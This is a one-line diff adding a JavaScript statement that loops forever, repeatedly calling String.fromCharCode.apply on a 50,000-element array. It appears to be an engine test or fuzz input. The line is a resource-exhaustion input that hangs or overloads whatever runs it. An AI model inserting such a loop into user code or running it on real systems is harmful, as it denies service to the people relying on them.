@@ -1,0 +1,1 @@
+for(;;)String.fromCharCode.apply(null,new Array(50000))
